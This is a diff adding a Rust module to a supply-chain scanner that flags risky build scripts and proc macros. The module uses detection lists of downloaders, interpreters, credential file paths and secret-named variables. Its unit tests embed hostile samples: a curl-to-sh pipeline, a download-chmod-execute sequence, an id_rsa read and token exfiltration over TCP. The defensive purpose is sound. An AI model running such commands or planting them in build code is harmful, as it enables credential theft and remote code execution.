@@ -1,0 +1,629 @@
+//! What code that runs at build time can do: a build script, or a proc macro (which runs inside
+//! the compiler on every developer's machine and in CI). Each file is read as tokens by the
+//! inventory's lexer, which sees inside macro calls (`format!`, `println!`) where a syn visitor
+//! would see an opaque token stream, and leaves comments and doc comments out.
+//!
+//! The facts are deliberately concrete (a call path, a literal), so every capability comes with
+//! the line that shows it. Which facts make which rule is decided in [`Facts::capabilities`]:
+//! ordinary capabilities are inventory, and only combinations nothing ordinary needs (download
+//! then execute, a credential file, a secret sent over the network) are malicious indicators.
+
+use super::lexer::{Token, Tokens};
+
+/// One use of a capability: the rule it falls under, where, and what shows it.
+#[derive(Clone, Debug, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
+pub struct Evidence {
+    pub rule: String,
+    /// Relative to the crate's directory, `/` separators.
+    pub file: String,
+    pub line: usize,
+    pub detail: String,
+}
+
+/// Programs a build script runs as part of building: compilers, archivers, build systems,
+/// version control for version stamps. Running them is the ordinary `build-process`.
+const TOOLCHAIN: &[&str] = &[
+    "rustc",
+    "cargo",
+    "rustup",
+    "cc",
+    "c++",
+    "gcc",
+    "g++",
+    "clang",
+    "clang++",
+    "cl",
+    "cl.exe",
+    "clang-cl",
+    "ar",
+    "ranlib",
+    "ld",
+    "lld",
+    "lib.exe",
+    "link.exe",
+    "pkg-config",
+    "pkgconf",
+    "make",
+    "gmake",
+    "nmake",
+    "cmake",
+    "ninja",
+    "meson",
+    "nasm",
+    "yasm",
+    "as",
+    "xcrun",
+    "git",
+    "llvm-config",
+    "protoc",
+    "flex",
+    "bison",
+    "windres",
+    "rc.exe",
+    "install_name_tool",
+    "strip",
+    "objcopy",
+    "autoreconf",
+    "autoconf",
+    "glib-compile-resources",
+    "xcodebuild",
+];
+
+/// Variables cargo sets to name the build tools a build script may run.
+const TOOL_VARIABLES: &[&str] = &[
+    "RUSTC",
+    "RUSTC_WRAPPER",
+    "RUSTDOC",
+    "CARGO",
+    "CC",
+    "CXX",
+    "AR",
+    "HOST_CC",
+    "TARGET_CC",
+    "PKG_CONFIG",
+    "CMAKE",
+];
+
+/// Shells and interpreters: running one is executing whatever script it is given.
+const INTERPRETERS: &[&str] = &[
+    "sh",
+    "bash",
+    "zsh",
+    "dash",
+    "cmd",
+    "cmd.exe",
+    "powershell",
+    "powershell.exe",
+    "pwsh",
+    "python",
+    "python3",
+    "perl",
+    "node",
+    "ruby",
+    "osascript",
+    "wscript",
+    "cscript",
+    "/bin/sh",
+    "/bin/bash",
+];
+
+/// Programs that download.
+const DOWNLOADERS: &[&str] = &["curl", "curl.exe", "wget", "bitsadmin", "certutil"];
+
+/// Crates and types that open network connections.
+const NETWORK_CRATES: &[&str] = &[
+    "reqwest",
+    "ureq",
+    "curl",
+    "attohttpc",
+    "minreq",
+    "isahc",
+    "http_req",
+    "surf",
+    "ehttp",
+    "hyper",
+    "ftp",
+    "suppaftp",
+    "ssh2",
+];
+const NETWORK_TYPES: &[&str] = &["TcpStream", "UdpSocket", "TcpListener"];
+
+/// Paths in a literal that name credential files.
+const CREDENTIAL_FILES: &[&str] = &[
+    ".ssh/",
+    "/.ssh",
+    "id_rsa",
+    "id_ed25519",
+    "id_ecdsa",
+    ".aws/credentials",
+    ".aws/config",
+    ".cargo/credentials",
+    "credentials.toml",
+    ".git-credentials",
+    ".netrc",
+    ".docker/config.json",
+    ".kube/config",
+    ".npmrc",
+    ".pypirc",
+];
+
+/// Words in an environment variable's name that say it holds a secret.
+const SECRET_NAME_PARTS: &[&str] = &[
+    "TOKEN",
+    "SECRET",
+    "PASSWORD",
+    "PASSWD",
+    "CREDENTIAL",
+    "API_KEY",
+    "APIKEY",
+    "PRIVATE_KEY",
+    "ACCESS_KEY",
+];
+
+/// A literal at least this long made only of base64 or hex characters is an encoded blob.
+const BLOB_LENGTH: usize = 1024;
+
+/// Facts about one unit of build-time code (a build script's files, or a proc macro's).
+#[derive(Debug, Default)]
+pub struct Facts {
+    network: Vec<(String, usize, String)>,
+    processes: Vec<(String, usize, Option<String>)>,
+    exec_permission: Vec<(String, usize, String)>,
+    writes: Vec<(String, usize, String)>,
+    mentions_out_dir: bool,
+    /// Environment variables that name build tools, as read (`RUSTC`, `CC`).
+    tool_variables: Vec<String>,
+    secret_env: Vec<(String, usize, String)>,
+    credential_files: Vec<(String, usize, String)>,
+    blobs: Vec<(String, usize, usize)>,
+    decodes: bool,
+}
+
+impl Facts {
+    /// Reads one file of the unit (`file`: its path relative to the crate).
+    pub fn read(&mut self, file: &str, text: &[u8]) {
+        let mut tokens = Tokens::new(text);
+        // A sliding window of the last tokens with their lines, enough for `a::b::c(`.
+        let mut window: Vec<(Token<'_>, usize)> = Vec::with_capacity(8);
+        while let Some(token) = tokens.next_token() {
+            let line = tokens.token_line();
+            // `quote! { … }` is the code a proc macro emits, not what it does: skipped.
+            if let Some((Token::Punct(b'!'), _)) = window.last() {
+                let quoting = window.len() >= 2
+                    && matches!(
+                        window[window.len() - 2].0,
+                        Token::Ident(
+                            b"quote" | b"quote_spanned" | b"parse_quote" | b"parse_quote_spanned"
+                        )
+                    );
+                if quoting {
+                    if let Token::Punct(open @ (b'(' | b'[' | b'{')) = token {
+                        skip_group(&mut tokens, open);
+                        window.clear();
+                        continue;
+                    }
+                }
+            }
+            if window.len() == 8 {
+                window.remove(0);
+            }
+            window.push((token, line));
+            self.observe(file, &window);
+        }
+    }
+
+    /// Looks at the newest token in the light of the ones before it.
+    fn observe(&mut self, file: &str, window: &[(Token<'_>, usize)]) {
+        let n = window.len();
+        let (token, line) = window[n - 1];
+        let back = |k: usize| n.checked_sub(k + 1).map(|i| window[i].0);
+        let ident_before_path = |k: usize| match (back(k), back(k + 1), back(k + 2)) {
+            (Some(Token::Punct(b':')), Some(Token::Punct(b':')), Some(Token::Ident(name))) => {
+                Some(name)
+            }
+            _ => None,
+        };
+        match token {
+            Token::Ident(name) => {
+                let text = String::from_utf8_lossy(name);
+                if NETWORK_TYPES.contains(&text.as_ref()) {
+                    self.network
+                        .push((file.to_owned(), line, format!("uses `{text}`")));
+                }
+                if matches!(
+                    text.as_ref(),
+                    "decode" | "from_hex" | "FromHex" | "decode_to_vec" | "from_base64"
+                ) {
+                    self.decodes = true;
+                }
+                if matches!(text.as_ref(), "set_mode" | "from_mode") {
+                    self.exec_permission.push((
+                        file.to_owned(),
+                        line,
+                        format!("sets file modes (`{text}`)"),
+                    ));
+                }
+                if let Some(parent) = ident_before_path(1) {
+                    let parent = String::from_utf8_lossy(parent);
+                    let write = matches!(
+                        (parent.as_ref(), text.as_ref()),
+                        (
+                            "fs",
+                            "write" | "copy" | "rename" | "create_dir_all" | "create_dir"
+                        ) | ("fs", "remove_file" | "remove_dir_all" | "hard_link")
+                            | ("File", "create" | "create_new")
+                    );
+                    if write {
+                        self.writes
+                            .push((file.to_owned(), line, format!("`{parent}::{text}`")));
+                    }
+                }
+                if text == "OpenOptions" {
+                    self.writes
+                        .push((file.to_owned(), line, "`OpenOptions`".to_owned()));
+                }
+            }
+            Token::Punct(b':') if back(1) == Some(Token::Punct(b':')) => {
+                // `reqwest::` at the start of a path: the crate is used.
+                if let Some(Token::Ident(name)) = back(2) {
+                    let before = back(3);
+                    let starts_path = !matches!(before, Some(Token::Punct(b':')));
+                    let text = String::from_utf8_lossy(name);
+                    if starts_path && NETWORK_CRATES.contains(&text.as_ref()) {
+                        let already = self
+                            .network
+                            .iter()
+                            .any(|(f, l, d)| f == file && *l == line && d.contains(text.as_ref()));
+                        if !already {
+                            self.network.push((
+                                file.to_owned(),
+                                line,
+                                format!("uses the `{text}` crate"),
+                            ));
+                        }
+                    }
+                }
+            }
+            Token::Str(body) => {
+                let value = String::from_utf8_lossy(body);
+                if value == "OUT_DIR" {
+                    self.mentions_out_dir = true;
+                }
+                // `Command::new("…")`: the program run.
+                if back(1) == Some(Token::Punct(b'('))
+                    && back(2) == Some(Token::Ident(b"new"))
+                    && ident_before_path(3) == Some(b"Command")
+                {
+                    self.processes
+                        .push((file.to_owned(), line, Some(value.to_string())));
+                    let program = program_name(&value);
+                    if DOWNLOADERS.contains(&program.as_str()) {
+                        self.network
+                            .push((file.to_owned(), line, format!("runs `{program}`")));
+                    }
+                }
+                // `env::var("…")`, `var_os`, `env!`, `option_env!`: a variable read.
+                let reads_variable = back(1) == Some(Token::Punct(b'('))
+                    && matches!(
+                        (back(2), back(3)),
+                        (Some(Token::Ident(b"var" | b"var_os")), _)
+                            | (
+                                Some(Token::Punct(b'!')),
+                                Some(Token::Ident(b"env" | b"option_env"))
+                            )
+                    );
+                if reads_variable
+                    && TOOL_VARIABLES.contains(&value.as_ref())
+                    && !self.tool_variables.contains(&value.to_string())
+                {
+                    self.tool_variables.push(value.to_string());
+                }
+                if reads_variable && is_secret_name(&value) {
+                    self.secret_env.push((
+                        file.to_owned(),
+                        line,
+                        format!("reads the environment variable `{value}`"),
+                    ));
+                }
+                if let Some(part) = CREDENTIAL_FILES.iter().find(|p| value.contains(*p)) {
+                    self.credential_files.push((
+                        file.to_owned(),
+                        line,
+                        format!(
+                            "names the credential file `{part}` (\"{}\")",
+                            shorten(&value)
+                        ),
+                    ));
+                } else if value == ".ssh" || value == ".aws" {
+                    self.credential_files.push((
+                        file.to_owned(),
+                        line,
+                        format!("names the credential directory `{value}`"),
+                    ));
+                }
+                let lowered = value.to_ascii_lowercase();
+                if DOWNLOADERS.iter().any(|d| {
+                    lowered.starts_with(&format!("{d} "))
+                        || lowered.contains(&format!("| {d} "))
+                        || lowered.contains(&format!("; {d} "))
+                }) || lowered.contains("invoke-webrequest")
+                    || lowered.contains("downloadfile(")
+                {
+                    self.network.push((
+                        file.to_owned(),
+                        line,
+                        format!("a command line that downloads (\"{}\")", shorten(&value)),
+                    ));
+                }
+                if lowered.starts_with("chmod") || lowered.contains(" chmod ") {
+                    self.exec_permission
+                        .push((file.to_owned(), line, "runs `chmod`".to_owned()));
+                }
+                if is_blob(&value) {
+                    self.blobs.push((file.to_owned(), line, value.len()));
+                }
+            }
+            // `Command::new(x)` with a program that is not a literal.
+            Token::Punct(b'(')
+                if back(1) == Some(Token::Ident(b"new"))
+                    && ident_before_path(2) == Some(b"Command") =>
+            {
+                self.processes.push((file.to_owned(), line, None));
+            }
+            _ => {}
+        }
+    }
+
+    /// The capabilities these facts amount to, `place` saying which unit they are about ("build
+    /// script", "proc macro").
+    pub fn capabilities(&self, place: &str) -> Vec<Evidence> {
+        let mut found = Vec::new();
+        let evidence = |rule: &str, (file, line, detail): (&String, &usize, String)| Evidence {
+            rule: rule.to_owned(),
+            file: file.clone(),
+            line: *line,
+            detail: format!("{place} {detail}"),
+        };
+        // Processes: `Command::new` with a literal is listed once per literal; without one, a
+        // computed program.
+        let mut interpreters = Vec::new();
+        let mut listed: Vec<Option<String>> = Vec::new();
+        for (file, line, program) in &self.processes {
+            let shown = program.as_deref().map(program_name);
+            if let Some(name) = &shown {
+                if INTERPRETERS.contains(&name.as_str()) {
+                    interpreters.push((file, line, format!("runs the interpreter `{name}`")));
+                }
+            }
+            if listed.contains(&shown) {
+                continue;
+            }
+            listed.push(shown.clone());
+            let detail = match &shown {
+                Some(name) if TOOLCHAIN.contains(&name.as_str()) => {
+                    format!("runs `{name}` (a build tool)")
+                }
+                Some(name) => format!("runs `{name}`"),
+                None if self.tool_variables.is_empty() => {
+                    "runs a program it computes at build time".to_owned()
+                }
+                None => format!(
+                    "runs a program it computes at build time (it reads `{}`)",
+                    self.tool_variables.join("`, `")
+                ),
+            };
+            found.push(evidence("build-process", (file, line, detail)));
+        }
+        for (file, line, detail) in &self.network {
+            found.push(evidence("build-network", (file, line, detail.clone())));
+        }
+        if !self.mentions_out_dir {
+            for (file, line, detail) in &self.writes {
+                found.push(evidence(
+                    "build-file-write",
+                    (
+                        file,
+                        line,
+                        format!("writes files with {detail} and never reads OUT_DIR"),
+                    ),
+                ));
+            }
+        }
+        for (file, line, detail) in &self.secret_env {
+            found.push(evidence("build-secret-env", (file, line, detail.clone())));
+        }
+        if self.decodes {
+            for (file, line, length) in &self.blobs {
+                found.push(evidence(
+                    "opaque-payload",
+                    (
+                        file,
+                        line,
+                        format!("decodes an encoded blob of {length} characters"),
+                    ),
+                ));
+            }
+        }
+        // The malicious indicators: combinations no ordinary build needs.
+        if let Some(network) = self.network.first() {
+            let executes = self
+                .exec_permission
+                .first()
+                .map(|(f, l, d)| (f, l, d.clone()))
+                .or_else(|| interpreters.first().cloned());
+            if let Some((file, line, detail)) = executes {
+                let first = &network.2;
+                found.push(evidence(
+                    "build-download-execute",
+                    (
+                        file,
+                        line,
+                        format!("{detail} here and {first} on line {}", network.1),
+                    ),
+                ));
+            }
+            if let Some((file, line, detail)) = self.secret_env.first() {
+                found.push(evidence(
+                    "build-secret-exfiltration",
+                    (
+                        file,
+                        line,
+                        format!(
+                            "{detail} here and {first} on line {}",
+                            network.1,
+                            first = network.2
+                        ),
+                    ),
+                ));
+            }
+        }
+        for (file, line, detail) in &self.credential_files {
+            found.push(evidence(
+                "build-credential-read",
+                (file, line, detail.clone()),
+            ));
+        }
+        found
+    }
+}
+
+/// Skips to the delimiter that closes the group `open` began.
+fn skip_group(tokens: &mut Tokens<'_>, open: u8) {
+    let close = match open {
+        b'(' => b')',
+        b'[' => b']',
+        _ => b'}',
+    };
+    let mut depth = 1usize;
+    while let Some(token) = tokens.next_token() {
+        match token {
+            Token::Punct(b) if b == open => depth += 1,
+            Token::Punct(b) if b == close => {
+                depth -= 1;
+                if depth == 0 {
+                    return;
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+/// `/usr/bin/python3` and `python3.exe` are `python3`: the file name, lower case.
+fn program_name(program: &str) -> String {
+    let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
+    let lowered = name.to_ascii_lowercase();
+    if INTERPRETERS.contains(&lowered.as_str()) || TOOLCHAIN.contains(&lowered.as_str()) {
+        return lowered;
+    }
+    lowered
+        .strip_suffix(".exe")
+        .map_or(lowered.clone(), str::to_owned)
+}
+
+fn is_secret_name(name: &str) -> bool {
+    let upper = name.to_ascii_uppercase();
+    name.len() < 100 && SECRET_NAME_PARTS.iter().any(|part| upper.contains(part))
+}
+
+fn is_blob(value: &str) -> bool {
+    value.len() >= BLOB_LENGTH
+        && value
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'_' | b'-'))
+}
+
+fn shorten(value: &str) -> String {
+    if value.chars().count() > 60 {
+        format!("{}…", value.chars().take(60).collect::<String>())
+    } else {
+        value.to_owned()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(source: &str) -> Vec<String> {
+        let mut facts = Facts::default();
+        facts.read("build.rs", source.as_bytes());
+        let mut rules: Vec<String> = facts
+            .capabilities("build script")
+            .into_iter()
+            .map(|e| e.rule)
+            .collect();
+        rules.sort();
+        rules.dedup();
+        rules
+    }
+
+    #[test]
+    fn a_cc_build_is_only_a_build_tool() {
+        let source = "fn main() { cc::Build::new().file(\"src/x.c\").compile(\"x\"); let out = std::env::var(\"OUT_DIR\").unwrap(); std::fs::write(out, \"\").unwrap(); }";
+        assert!(rules(source).is_empty(), "{:?}", rules(source));
+    }
+
+    #[test]
+    fn rustc_version_probe_is_an_ordinary_process() {
+        let source = "use std::process::Command;\nfn main() { let rustc = std::env::var(\"RUSTC\").unwrap(); Command::new(rustc).arg(\"-V\").output().unwrap(); }";
+        assert_eq!(rules(source), ["build-process"]);
+    }
+
+    #[test]
+    fn download_then_chmod_is_download_and_execute() {
+        let source = "fn main() { let body = reqwest::blocking::get(\"https://x.example/p\").unwrap().bytes().unwrap();\n std::fs::write(\"/tmp/p\", &body).unwrap();\n let mut perm = std::fs::metadata(\"/tmp/p\").unwrap().permissions(); perm.set_mode(0o755);\n std::process::Command::new(\"/tmp/p\").spawn().unwrap(); }";
+        let found = rules(source);
+        assert!(
+            found.contains(&"build-download-execute".to_owned()),
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn curl_piped_to_sh_is_download_and_execute() {
+        let source = "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://x.example/i | sh\").status().unwrap(); }";
+        let found = rules(source);
+        assert!(
+            found.contains(&"build-download-execute".to_owned()),
+            "{found:?}"
+        );
+    }
+
+    #[test]
+    fn a_configure_script_without_network_is_not_malicious() {
+        let source = "fn main() { let out = std::env::var(\"OUT_DIR\").unwrap(); std::process::Command::new(\"sh\").arg(\"configure\").current_dir(out).status().unwrap(); }";
+        assert_eq!(rules(source), ["build-process"]);
+    }
+
+    #[test]
+    fn credential_paths_inside_format_macros_are_seen() {
+        let source = "fn main() { let home = std::env::var(\"HOME\").unwrap(); let key = std::fs::read(format!(\"{home}/.ssh/id_rsa\")); }";
+        assert_eq!(rules(source), ["build-credential-read"]);
+    }
+
+    #[test]
+    fn doc_comments_and_comments_are_not_evidence() {
+        let source = "/// reads ~/.ssh/id_rsa? no.\n// reqwest::get(\"https://x\")\nfn main() {}";
+        assert!(rules(source).is_empty());
+    }
+
+    #[test]
+    fn code_a_proc_macro_emits_is_not_what_it_does() {
+        let source = "pub fn derive() -> TokenStream { quote! { let c = std::process::Command::new(\"sh\"); reqwest::get(\"https://x\"); } }";
+        assert!(rules(source).is_empty(), "{:?}", rules(source));
+    }
+
+    #[test]
+    fn a_secret_read_and_a_connection_is_exfiltration() {
+        let source = "fn main() { let t = std::env::var(\"GITHUB_TOKEN\").unwrap(); let mut s = std::net::TcpStream::connect(\"1.2.3.4:80\").unwrap(); }";
+        assert_eq!(
+            rules(source),
+            [
+                "build-network",
+                "build-secret-env",
+                "build-secret-exfiltration"
+            ]
+        );
+    }
+}
